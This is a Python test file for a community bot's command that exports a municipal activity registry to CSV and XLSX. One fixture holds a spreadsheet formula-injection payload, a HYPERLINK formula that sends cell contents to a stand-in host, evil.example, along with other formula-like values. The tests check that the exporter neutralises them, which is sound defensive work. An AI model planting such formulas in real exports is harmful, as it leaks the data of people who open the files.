"""`otagai activities export`: the registry as CSV and XLSX a municipal officer can use."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import time
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.cli import main
from bot.identity import CHANNEL
from models import Activity, ActivityKind, ActivityStatus
from models.activities import mark_interest
from models.areas import get_or_create_area
from models.db import create_engine, session_factory
from models.people import ensure_person
from models.schedule import Frequency, Schedule


@pytest.fixture(autouse=True)
def _isolated(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.chdir(tmp_path)
    for name in ("DATABASE_URL", "DEFAULT_LANGUAGE"):
        monkeypatch.delenv(f"OTAGAI_{name}", raising=False)


async def _registry(url: str) -> None:
    engine = create_engine(url)
    try:
        async with session_factory(engine)() as session, session.begin():
            east, _ = await get_or_create_area(session, "こもれび市", "みどり地区")
            organiser = await ensure_person(session, CHANNEL, 1)
            schedule = Schedule(frequency=Frequency.MONTHLY, weekdays=(2,), nth=(2,),
                                start=time(12), end=time(13, 30))
            meal = Activity(name="ふれあい食事会", kind=ActivityKind.MEAL, district_id=east.id,
                            place="公民館", schedule=schedule.to_json(), capacity=20,
                            contact="公民館 012-345-6789", organiser_id=organiser.id,
                            meanings=["watching", "nutrition"], status=ActivityStatus.ACTIVE)
            session.add_all([meal, Activity(name="下書き", district_id=east.id, meanings=[],
                                            status=ActivityStatus.DRAFT)])
            await session.flush()
            await mark_interest(session, meal, (await ensure_person(session, CHANNEL, 2)).id)
    finally:
        await engine.dispose()


def test_export_writes_csv_and_xlsx(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    assert main(["db", "upgrade"]) == 0
    asyncio.run(_registry(f"sqlite+aiosqlite:///{tmp_path / 'otagai.db'}"))
    assert main(["activities", "export"]) == 0
    assert "1件の活動を書き出しました" in capsys.readouterr().out

    raw = (tmp_path / "地域の活動.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel needs the mark to read UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == ["地区", "活動名", "種類", "意味づけ", "場所", "日時", "状態", "定員",
                       "連絡先", "行ってみたい（人数）", "登録日"]
    assert rows[1][:10] == ["みどり地区", "ふれあい食事会", "食事会", "見守り、栄養改善", "公民館",
                            "毎月 第2 水曜 12:00〜13:30", "活動中", "20", "公民館 012-345-6789",
                            "1"]
    assert len(rows) == 2  # the draft is not part of the registry

    sheet = load_workbook(tmp_path / "地域の活動.xlsx").active
    assert sheet is not None
    assert sheet.title == "地域の活動"
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][:2] == ("地区", "活動名")
    assert values[1][1] == "ふれあい食事会"
    assert values[1][9] == 1


def test_export_in_english_to_a_folder(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    monkeypatch.setenv("OTAGAI_DEFAULT_LANGUAGE", "en")
    out = tmp_path / "out"
    out.mkdir()
    assert main(["activities", "export", "--folder", str(out)]) == 0
    assert "Exported 0 activities" in capsys.readouterr().out
    assert (out / "activities.csv").read_bytes().decode("utf-8-sig").startswith("District,")


def test_export_to_a_missing_folder_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["activities", "export", "--folder", "nowhere"]) == 1
    assert capsys.readouterr().err.startswith("ファイル nowhere/地域の活動.csv に書き込めません")


EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"詳細はこちら")'


async def _formulas(url: str) -> None:
    """An unapproved proposal made of formulas, and approved activities whose words start
    like formulas (an organiser may edit them after the review)."""
    engine = create_engine(url)
    try:
        async with session_factory(engine)() as session, session.begin():
            east, _ = await get_or_create_area(session, "こもれび市", "みどり地区")
            organiser = await ensure_person(session, CHANNEL, 1)
            session.add_all([
                Activity(name=EVIL, kind=ActivityKind.SALON, district_id=east.id,
                         place="+SUM(1,2)", contact="@SUM(1+1)", organiser_id=organiser.id,
                         meanings=[], status=ActivityStatus.PROPOSED),
                Activity(name="=1+2 体操", kind=ActivityKind.EXERCISE, district_id=east.id,
                         place="-1+2", contact="@SUM(1+1) 012-345-6789",
                         organiser_id=organiser.id, meanings=[], status=ActivityStatus.ACTIVE),
                Activity(name="\t=1+1 お茶会", kind=ActivityKind.SALON, district_id=east.id,
                         place="\r=1+1", contact="+81 90-0000-0000", organiser_id=organiser.id,
                         meanings=[], status=ActivityStatus.PAUSED),
            ])
    finally:
        await engine.dispose()


def test_export_keeps_text_as_text_and_leaves_out_proposals(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    assert main(["db", "upgrade"]) == 0
    asyncio.run(_formulas(f"sqlite+aiosqlite:///{tmp_path / 'otagai.db'}"))
    assert main(["activities", "export"]) == 0
    assert "2件の活動を書き出しました" in capsys.readouterr().out

    raw = (tmp_path / "地域の活動.csv").read_bytes().decode("utf-8-sig")
    assert "evil.example" not in raw
    assert "SUM(1,2)" not in raw
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert len(rows) == 3
    by_name = {r[1]: r for r in rows[1:]}
    assert set(by_name) == {"'=1+2 体操", "'\t=1+1 お茶会"}
    exercise, tea = by_name["'=1+2 体操"], by_name["'\t=1+1 お茶会"]
    assert (exercise[4], exercise[8]) == ("'-1+2", "'@SUM(1+1) 012-345-6789")
    assert (tea[4], tea[8]) == ("'\r=1+1", "'+81 90-0000-0000")
    for cell in (c for r in rows for c in r):
        assert cell == "-" or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell

    sheet = load_workbook(tmp_path / "地域の活動.xlsx").active
    assert sheet is not None
    cells = [c for r in sheet.iter_rows() for c in r if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "evil.example" not in str([c.value for c in cells])
    names = {sheet.cell(row=r, column=2).value: r for r in range(2, sheet.max_row + 1)}
    assert set(names) == {"=1+2 体操", "\t=1+1 お茶会"}
    row = names["=1+2 体操"]
    for column, value in ((2, "=1+2 体操"), (5, "-1+2"), (9, "@SUM(1+1) 012-345-6789")):
        cell = sheet.cell(row=row, column=column)
        assert (cell.value, cell.data_type) == (value, "s")
